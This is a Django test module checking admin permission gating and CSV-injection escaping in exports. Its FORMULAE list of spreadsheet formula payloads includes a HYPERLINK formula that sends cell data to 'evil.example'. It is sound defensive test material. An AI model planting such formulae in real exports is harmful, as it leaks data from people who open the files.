"""Admin: every action checks a permission, and every CSV export is safe to open in a spreadsheet."""

import csv
import io

import pytest
from django.contrib import admin
from django.contrib.auth.models import Permission
from django.urls import reverse

from docs_users import activity
from docs_users.sync import DELIVER_KIND
from foundation.exports import SafeCSV
from foundation.staff_groups import MANAGERS, OPERATIONS, SALES
from jobs.models import Job
from leadgen.rules import Classification
from leadgen.services import lead_create

pytestmark = pytest.mark.django_db

FORMULAE = ["=HYPERLINK(\"https://evil.example/?\"&A1,\"Call\")", "+1+1", "-2+3", "@SUM(A1)", "\tTAB", "\rCR", "+A1"]


def test_every_admin_action_checks_a_permission():
    unchecked = [
        f"{model._meta.label}.{name}"
        for model, model_admin in admin.site._registry.items()
        for function, name, _ in model_admin._get_base_actions()
        if not getattr(function, "allowed_permissions", None)
    ]
    assert unchecked == []


def test_every_admin_export_escapes_formulae():
    formats = {
        model._meta.label: fmt
        for model, model_admin in admin.site._registry.items()
        for fmt in getattr(model_admin, "export_formats", [])
    }
    assert formats and all(issubclass(fmt, SafeCSV) for fmt in formats.values()), formats


def test_a_view_only_user_cannot_deliver_even_with_select_across(client, staff_user):
    for n in range(3):
        activity.tracked_user_sign_in(sub=f"auth0|{n}", channel="docs-login", email=f"u{n}@acme.com")
    url = reverse("admin:docs_users_trackeduser_changelist")
    action = {"action": "deliver_now", "select_across": "1", "index": "0", "_selected_action": ["1"]}

    client.force_login(staff_user("sales", SALES, MANAGERS))
    assert client.post(url, action).status_code in (200, 302)
    assert not Job.objects.filter(kind=DELIVER_KIND).exists()

    client.force_login(staff_user("ops", OPERATIONS, MANAGERS))
    client.post(url, action)
    assert Job.objects.filter(kind=DELIVER_KIND).count() == 3


def test_lead_export_cells_cannot_run_as_formulae(client, staff_user):
    for n, text in enumerate(FORMULAE):
        lead_create(
            fields={"first_name": text, "last_name": "Doe", "email": f"u{n}@example.com", "company": text,
                    "message": "Hello"},
            client_ip="203.0.113.7",
            classification=Classification("lead", 0.9, "Judged by hand.", "llm"),
        )  # fmt: skip
    user = staff_user("sales", SALES, MANAGERS)  # web-form leads belong to no store
    user.user_permissions.add(Permission.objects.get(codename="view_lead"))
    client.force_login(user)
    fields = {f"leadresource_{name}": "on" for name in ("id", "first_name", "company", "email")}
    response = client.post(reverse("admin:leadgen_lead_export"), {"format": "0", "resource": "0", **fields})
    assert response.status_code == 200 and response["Content-Type"].startswith("text/csv")
    rows = list(csv.DictReader(io.StringIO(response.content.decode())))
    names = sorted(row["First name"] if "First name" in row else row["first_name"] for row in rows)
    assert names == sorted("'" + text for text in FORMULAE)
    assert all(not row[key].startswith(("=", "+", "-", "@", "\t", "\r")) for row in rows for key in row)
